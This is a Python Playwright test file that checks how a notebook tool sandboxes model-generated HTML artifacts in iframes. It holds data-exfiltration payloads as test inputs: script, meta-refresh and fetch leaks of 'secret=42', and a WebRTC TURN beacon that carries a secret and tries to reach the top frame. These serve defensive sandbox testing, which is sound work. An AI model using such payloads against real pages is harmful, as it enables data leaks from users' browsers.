"""HTML artifacts in a real browser (chromium): the model's page is drawn without its scripts, runs them only after
a click on "Run scripts", then is sized, and reaches no server by a fetch or by navigating its own frame (WebRTC it
can: what the button's note warns of). The page hosting the frame is served from 127.0.0.1, as Jupyter is."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest
from playwright.sync_api import expect

import glm_nb.widget
from glm_nb.render import Artifact, iframe_html

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def page(browser):
    context = browser.new_context()
    yield context.new_page()
    context.close()


def _show(page, server, name: str, source: str, *, run: bool = False) -> None:
    """Host `source` as an HTML artifact on a page of `server`; `run`: then click its "Run scripts" (a page with
    no script has none)."""
    server.pages[name] = f"<!doctype html><body>{iframe_html(source)}</body>"
    page.goto(f"{server.url}/host/{name}", wait_until="load")
    button = page.locator("button.glm-nb-run-scripts")
    if run and button.count():
        button.click()
    page.wait_for_timeout(1000)  # a meta refresh or a script's navigation happens after load


@pytest.mark.parametrize(
    "leak",
    [
        "<script>location.href = '{url}/script?secret=42'</script>",
        '<meta http-equiv="refresh" content="0;url={url}/refresh?secret=42">',
        "<script>fetch('{url}/fetch?secret=42')</script><img src='{url}/img?secret=42'>",
    ],
)
@pytest.mark.parametrize("run", [False, True], ids=["static", "scripts-run"])
def test_the_model_page_reaches_nothing_outside_its_frame(page, leak_server, leak, run):
    _show(page, leak_server, f"leak{len(leak_server.pages)}", leak.format(url=leak_server.url), run=run)

    assert leak_server.leaks == []


def test_the_model_page_runs_when_asked_and_its_frame_takes_its_height(page, leak_server):
    source = "<div id=box style='height:700px'></div><script>box.textContent='ran'</script>"
    _show(page, leak_server, "tall", source, run=True)

    height = page.eval_on_selector("iframe.glm-nb-frame", "frame => frame.style.height")
    texts = [frame.evaluate("document.body ? document.body.innerText : ''") for frame in page.frames]

    assert "ran" in texts
    assert 700 < int(height.removesuffix("px")) <= 800


@pytest.fixture
def turn_server():
    """A UDP socket on 127.0.0.1 standing for a STUN/TURN server the model chose: WebRTC reaches it whatever the
    frame's Content-Security-Policy says (chromium's CSP does not cover WebRTC)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        yield udp


def _received(udp: socket.socket) -> list[bytes]:
    datagrams = []
    while True:
        try:
            datagrams.append(udp.recv(4096))
        except BlockingIOError:
            return datagrams


WEBRTC = """<p id="state">static</p><button>Save</button><script>
const pc = new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:{port}?transport=udp",
                                                username: "SECRET42", credential: "x"}]});
pc.createDataChannel("x");
pc.createOffer().then(offer => pc.setLocalDescription(offer));
const state = document.getElementById("state");
state.textContent = "ran";
try { top.document.title = "pwned"; state.textContent += " top:allowed"; }
catch (e) { state.textContent += " top:blocked"; }
</script>"""


def _model_texts(page) -> list[str]:
    """The text of every frame inside the page (ours and the model's)."""
    return [f.evaluate("document.body ? document.body.innerText : ''") for f in page.frames if f.parent_frame]


def _sandboxes(page) -> list[str | None]:
    """The sandbox attribute of every frame in the page, ours and the model's inside it."""
    return [frame.frame_element().get_attribute("sandbox") for frame in page.frames if frame.parent_frame]


def test_a_script_runs_only_after_run_scripts_is_clicked_and_never_same_origin(page, leak_server, turn_server):
    port = turn_server.getsockname()[1]
    _show(page, leak_server, "webrtc", WEBRTC.replace("{port}", str(port)))
    page.wait_for_timeout(1000)  # ICE gathering would have begun by now

    assert _received(turn_server) == []  # no STUN/TURN request left the frame
    texts = _model_texts(page)
    assert not any("ran" in text for text in texts), texts
    assert any("static" in text for text in texts)  # the page's HTML is there, drawn
    assert _sandboxes(page) == ["", ""]
    button = page.locator("button.glm-nb-run-scripts")
    expect(button).to_be_visible()
    expect(page.locator(".glm-nb-run-note")).to_contain_text("could send data out")

    button.click()
    page.wait_for_timeout(1500)

    texts = _model_texts(page)
    assert any(text.startswith("ran top:blocked") for text in texts), texts  # it ran, in an opaque origin
    assert page.title() != "pwned"
    assert _sandboxes(page) == ["allow-scripts", "allow-scripts"]
    assert _received(turn_server)  # what the note warns of: a script the user ran can send data out
    expect(button).to_be_disabled()


def test_a_page_without_scripts_renders_static_with_no_button(page, leak_server):
    _show(page, leak_server, "static", "<table><tr><td id=cell>a cell</td></tr></table>")

    assert any("a cell" in text for text in _model_texts(page))
    assert page.locator("button.glm-nb-run-scripts").count() == 0


def test_where_output_scripts_do_not_run_the_page_is_static_and_says_where_to_run_it(browser, leak_server):
    leak_server.pages["untrusted"] = f"<!doctype html><body>{iframe_html(WEBRTC)}</body>"
    context = browser.new_context(java_script_enabled=False)  # as an untrusted notebook's sanitized output
    try:
        page = context.new_page()
        page.goto(f"{leak_server.url}/host/untrusted", wait_until="load")

        expect(page.locator("button.glm-nb-run-scripts")).to_be_hidden()
        expect(page.locator(".glm-nb-run-static")).to_contain_text("open the notebook in JupyterLab with glm-nb")
        expect(page.locator(".glm-nb-run-note")).to_be_hidden()
    finally:
        context.close()


PANEL_VIEW = (Path(glm_nb.widget.__file__).parent / "chat_panel.js").read_text()
# The ChatPanel's view, rendered by the page as anywidget would, over a stand-in for the kernel's model.
MOUNT_PANEL = """async ([view, turns]) => {
  const url = URL.createObjectURL(new Blob([view], {type: "text/javascript"}));
  const {default: panel} = await import(url);
  const state = {turns, live: {}, busy: false, variant: "chat", temperature: 0, max_tokens: 64, system: "",
                 tokens_per_s: 0, status: "", model_name: "", export_html: ""};
  const model = {get: name => state[name], set: (name, value) => { state[name] = value; }, save_changes() {},
                 send() {}, on() {}, off() {}};
  panel.render({model, el: document.body});
}"""


def test_the_chat_panel_runs_an_artifacts_scripts_only_after_its_button_is_clicked(page, leak_server, turn_server):
    source = WEBRTC.replace("{port}", str(turn_server.getsockname()[1]))
    turn = {"prompt": "Make me a page", "html": Artifact.from_block("html", source).html()}
    leak_server.pages["panel"] = "<!doctype html><body></body>"
    page.goto(f"{leak_server.url}/host/panel", wait_until="load")

    page.evaluate(MOUNT_PANEL, [PANEL_VIEW, [turn]])
    page.wait_for_timeout(1000)

    assert _received(turn_server) == []
    assert not any("ran" in text for text in _model_texts(page))
    assert _sandboxes(page) == ["", ""]
    expect(page.locator(".glm-nb-panel .glm-nb-run-note")).to_be_visible()
    page.locator(".glm-nb-panel button.glm-nb-run-scripts").click()
    page.wait_for_timeout(1500)
    assert any(text.startswith("ran top:blocked") for text in _model_texts(page))
    assert _sandboxes(page) == ["allow-scripts", "allow-scripts"]
